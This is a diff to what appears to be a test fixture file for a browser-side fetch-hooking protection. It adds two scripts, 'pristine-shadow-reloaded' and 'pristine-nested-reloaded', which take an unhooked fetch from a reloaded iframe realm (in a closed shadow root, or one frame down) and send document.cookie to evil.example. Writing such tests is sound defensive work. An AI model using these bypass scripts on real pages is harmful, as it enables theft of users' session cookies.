@@ -1289,6 +1289,48 @@ export const MAIN_WORLD_SCRIPTS = {
   frame.srcdoc = '<p>reloaded</p>';
 })();`,
 
+  /**
+   * The same in a closed shadow root: a frame's load event does not leave its shadow tree, so the document's
+   * listener never hears it. The helper keeps the frame's window from one read of `contentWindow` (a
+   * WindowProxy follows the frame into its next realm) and takes the new realm's fetch when it loads.
+   */
+  'pristine-shadow-reloaded': `(() => {
+  const host = document.createElement('div');
+  document.body.appendChild(host);
+  const root = host.attachShadow({ mode: 'closed' });
+  root.innerHTML = '<iframe style="display:none"></iframe>';
+  const frame = root.firstChild;
+  const proxy = frame.contentWindow;
+  let sent = false;
+  frame.addEventListener('load', () => {
+    if (sent || proxy.location.href !== 'about:srcdoc') return;
+    sent = true;
+    proxy.fetch('https://evil.example/shadow-reloaded?c=' + encodeURIComponent(document.cookie));
+  });
+  frame.srcdoc = '<p>reloaded</p>';
+})();`,
+
+  /**
+   * The same one frame down: a frame made inside a same-origin frame is navigated, and its new realm's fetch is
+   * taken by `window[i][0]` at its load, which reaches the inner frame's document, not the page's.
+   */
+  'pristine-nested-reloaded': `(() => {
+  const outer = document.createElement('iframe');
+  outer.style.display = 'none';
+  document.body.appendChild(outer);
+  const index = window.length - 1;
+  const inner = window[index].document.createElement('iframe');
+  window[index].document.body.appendChild(inner);
+  let sent = false;
+  inner.addEventListener('load', () => {
+    const clean = window[index][0];
+    if (sent || clean.location.href !== 'about:srcdoc') return;
+    sent = true;
+    clean.fetch('https://evil.example/nested-reloaded?c=' + encodeURIComponent(document.cookie));
+  });
+  inner.srcdoc = '<p>reloaded</p>';
+})();`,
+
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
   'srcdoc-frame': `(() => {
   const frame = document.createElement('iframe');
